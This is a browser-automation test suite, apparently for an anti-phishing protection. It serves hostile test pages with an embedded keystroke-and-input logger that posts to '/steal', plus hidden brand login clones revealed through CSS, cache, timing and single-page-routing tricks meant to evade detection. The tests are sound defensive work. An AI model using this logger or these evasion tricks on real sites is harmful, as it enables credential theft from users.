import { beforeAll, expect, test } from 'vitest';
import { forEachBrowser, type Session, type Tab } from '../harness';
import { expectNoWarningFor, startReady } from '../page-helpers';
import {
  AWAY,
  CLONE,
  CLONE_TITLE as TITLE,
  attackSettled,
  hiddenClone,
  isWarningUrl,
  stolen,
  userTypes,
} from './kit';

/**
 * Red team 38 (docs/threat-model.md, "Red team 38"). The page's own script attacks; the victim reads for a moment,
 * clicks the password box and types. A kit wins when a key reaches its listeners and no warning stands.
 */
const settle = (ms = 1_000) => new Promise((r) => setTimeout(r, ms));

/** the kit's ears: trusted keys on `window` and every `input` with the box's value */
const EARS = `<script>
window.steal = function (kind, data) {
  try { fetch('/steal?' + kind + '=' + encodeURIComponent(String(data).slice(0, 300)), { method: 'POST', keepalive: true }); } catch (e) {}
};
window.addEventListener('keydown', function (e) { if (e.isTrusted) steal('key', e.key); }, true);
document.addEventListener('input', function (e) { steal('input', e.target && e.target.value); }, true);
</script>`;

const page = (head: string, body: string, script = '') =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>동네 빵집</title>${EARS}${head}</head><body>
${body}
<script>${script}
steal('ready', 'yes');
</script></body></html>`;

/** a1: the clone carries the `hidden` attribute, which the page's stylesheet overrides (author CSS beats it) */
const A1 = page(`<style>.w{display:block}</style>`, `<div class="w" hidden>${CLONE}</div>`);
/** a2: an inline `display:none` a stylesheet overrides with `!important` */
const A2 = page(
  `<style>#w{display:block!important}</style>`,
  `<div id="w" style="display:none">${CLONE}</div>`,
);
/** a3: inline `visibility:hidden` on the page's wrapper, the clone inside it made visible again */
const A3 = page('', `<div style="visibility:hidden"><div style="visibility:visible">${CLONE}</div></div>`);
/** a3b: the same wrapper, the clone's box made visible by a class of the page's stylesheet */
const A3B = page(
  `<style>.c{visibility:visible}</style>`,
  `<div style="visibility:hidden"><div class="c">${CLONE}</div></div>`,
);
/** a4: shown 3 s after load, after the first scan, by a rule inserted through the CSSOM (no mutation at all) */
const A4 = page(
  `<style>.x{color:#333}</style>`,
  `<h1>동네 빵집</h1><p>오늘의 빵을 소개합니다.</p><div id="w" style="display:none">${CLONE}</div>`,
  `setTimeout(function () { document.styleSheets[0].insertRule('#' + 'w{display:block !important}', 0); }, 3000);`,
);
/** h1: an honest blog whose hidden answer (really hidden) names the brand, with its own login shown */
const H1 = page(
  `<style>.faq{color:#333}.d-block{display:block}</style>`,
  `<h1>동네 빵집 블로그</h1><p>빵 이야기를 나눕니다.</p>
<div class="faq" hidden><p>쿠팡에서도 파나요? 아니요, 매장에서만 팝니다.</p></div>
<div class="d-block" hidden><p>이 포스팅은 쿠팡 파트너스 활동의 일환으로, 이에 따른 일정액의 수수료를 제공받습니다.</p></div>
<form onsubmit="return false"><h2>빵집 회원 로그인</h2><input name="id" placeholder="아이디" style="width:320px;height:40px">
<input id="pw" type="password" name="pw" placeholder="비밀번호" style="width:320px;height:40px"><button>로그인</button></form>`,
);

/** b1: an honest page, left and come back to (back/forward cache): it turns into the clone on `pageshow` */
const B1 = page(
  '',
  `<div id="root"><h1>동네 빵집</h1><p>오늘의 빵을 소개합니다.</p><a id="away" href="/away">다음 글</a></div>`,
  `window.addEventListener('pageshow', function (e) {
  if (!e.persisted) return;
  document.title = ${TITLE};
  document.getElementById('root').innerHTML = ${hiddenClone};
  steal('restored', 'yes');
});`,
);
/** b2: the same, the clone put in as the page is frozen into the cache (`pagehide`) */
const B2 = page(
  '',
  `<div id="root"><h1>동네 빵집</h1><p>오늘의 빵을 소개합니다.</p><a id="away" href="/away">다음 글</a></div>`,
  `window.addEventListener('pagehide', function (e) {
  if (!e.persisted) return;
  document.title = ${TITLE};
  document.getElementById('root').innerHTML = ${hiddenClone};
});
window.addEventListener('pageshow', function (e) { if (e.persisted) steal('restored', 'yes'); });`,
);

/** c1: quiet for 30 s, then the clone at an idle moment */
const C1 = page(
  '',
  `<div id="root"><h1>동네 빵집</h1><p>오늘의 빵을 소개합니다.</p></div>`,
  `setTimeout(function () { requestIdleCallback(function () {
  document.title = ${TITLE};
  document.getElementById('root').innerHTML = ${hiddenClone};
  steal('shown', 'yes');
}); }, 30000);`,
);

/** s1–s3: an honest article that turns into the clone with no navigation, at the reader's click on its link */
const SPA = (how: string) =>
  page(
    '',
    `<div id="root"><h1>동네 빵집</h1><p>오늘의 빵을 소개합니다.</p><a id="next" href="/next">다음 글</a></div>`,
    `function kit() {
  document.title = ${TITLE};
  document.getElementById('root').innerHTML = ${hiddenClone};
}
${how}`,
  );
/** s1: pushState to a brand-like path */
const S1 = SPA(`document.getElementById('next').addEventListener('click', function (e) {
  e.preventDefault(); history.pushState({}, '', '/www.' + 'coup' + 'ang.com/login'); kit();
});`);
/** s2: a hash route */
const S2 = SPA(`document.getElementById('next').href = '#/login';
window.addEventListener('hashchange', kit);`);
/** s3: the Navigation API intercepting the link (Chromium) */
const S3 = SPA(`navigation.addEventListener('navigate', function (e) {
  if (e.canIntercept && /next/.test(e.destination.url)) e.intercept({ handler: function () { kit(); return Promise.resolve(); } });
});`);

/** What reached the kit's listeners of the password typed */
const typed = (s: Parameters<typeof stolen>[0], host: string) =>
  [...stolen(s, host, 'key'), ...stolen(s, host, 'input')].map((r) => decodeURIComponent(r.path));

async function onPage(s: Session, tab: Tab): Promise<boolean> {
  return !isWarningUrl(s, await tab.evaluate(() => location.href).catch(() => tab.url()));
}

forEachBrowser('hostile: red team 38, what is shown', (ctx) => {
  let s: Session;
  beforeAll(async () => {
    s = await startReady(ctx);
  });

  /** open, read 4 s, type the password; the kit must get no key (a warning may come at any point) */
  async function victim(host: string, html: string, before = 4_000): Promise<void> {
    ctx.server.page(host, '/login', html);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await settle(before);
    if (await onPage(s, tab)) await userTypes(tab, '#pw', 'hunter2');
    await settle(2_000);
    const got = typed(ctx.server, host);
    const still = await onPage(s, tab);
    await tab.close();
    expect({ got, warned: !still }).toEqual({ got: [], warned: true });
  }

  test('a1. a clone under `hidden` the stylesheet shows', () => victim('rt38-a1.example.test', A1));
  test('a2. a clone under inline display:none a stylesheet !important shows', () =>
    victim('rt38-a2.example.test', A2));
  test('a3. a clone made visible inside a visibility:hidden wrapper', () =>
    victim('rt38-a3.example.test', A3));
  test('a3b. a clone made visible by a class inside a visibility:hidden wrapper', () =>
    victim('rt38-a3b.example.test', A3B));
  test('a4. a clone shown after the first scan by a CSSOM rule', () =>
    victim('rt38-a4.example.test', A4, 6_000));

  test('h1. an honest blog with hidden answers keeps its login clean and typed', async () => {
    const host = 'rt38-h1.example.test';
    ctx.server.page(host, '/login', H1);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await settle(2_000);
    await userTypes(tab, '#pw', 'hunter2');
    await expectNoWarningFor(tab, 3_000);
    expect(await tab.evaluate(() => (document.getElementById('pw') as HTMLInputElement).value)).toBe(
      'hunter2',
    );
    await tab.close();
  });

  for (const [name, html] of [
    ['b1', B1],
    ['b2', B2],
  ] as const)
    // (not played: neither browser of this harness restored the page from the back/forward cache — `pageshow`
    // came with persisted false in both, the page loaded again — so the kit never ran; kept for a harness that does)
    test.skip(`${name}. an honest page restored from the back/forward cache as the clone`, async () => {
      const host = `rt38-${name}.example.test`;
      ctx.server.page(host, '/login', html).page(host, '/away', AWAY);
      const tab = await s.newTab(ctx.server.url(host, '/login'));
      await tab.bringToFront();
      await attackSettled(s, tab, ctx.server, host);
      await settle(2_000);
      await tab.goto(ctx.server.url(host, '/away'));
      await tab.waitForUrl(/\/away$/);
      await settle(1_000);
      await tab.evaluate(() => history.back()).catch(() => undefined);
      // (the restored page, or the warning about it)
      await tab.waitForUrl((u) => /\/login$/.test(u) || isWarningUrl(s, u));
      await settle(3_000);
      const restored = stolen(ctx.server, host, 'restored').length > 0;
      if (await onPage(s, tab)) await userTypes(tab, '#pw', 'hunter2');
      await settle(2_000);
      const got = typed(ctx.server, host);
      const still = await onPage(s, tab);
      await tab.close();
      expect({ restored, got, warned: !still }).toEqual({ restored: true, got: [], warned: true });
    });

  for (const [name, html] of [
    ['s1', S1],
    ['s2', S2],
    ['s3', S3],
  ] as const)
    test.skipIf(name === 's3' && ctx.name !== 'chromium')(
      `${name}. an honest article switched to the clone with no navigation`,
      async () => {
        const host = `rt38-${name}.example.test`;
        ctx.server.page(host, '/login', html);
        const tab = await s.newTab(ctx.server.url(host, '/login'));
        await tab.bringToFront();
        await attackSettled(s, tab, ctx.server, host);
        await settle(2_000);
        const at = await tab.evaluate(() => {
          const r = document.getElementById('next')!.getBoundingClientRect();
          return { x: r.left + r.width / 2, y: r.top + r.height / 2 };
        });
        await tab.mouseClick(at.x, at.y);
        await settle(3_000);
        if (await onPage(s, tab)) await userTypes(tab, '#pw', 'hunter2');
        await settle(2_000);
        const got = typed(ctx.server, host);
        const still = await onPage(s, tab);
        await tab.close();
        expect({ got, warned: !still }).toEqual({ got: [], warned: true });
      },
    );

  test('c1. a clone shown at an idle moment after 30 s of quiet', async () => {
    await victim('rt38-c1.example.test', C1, 33_000);
  }, 60_000);
});
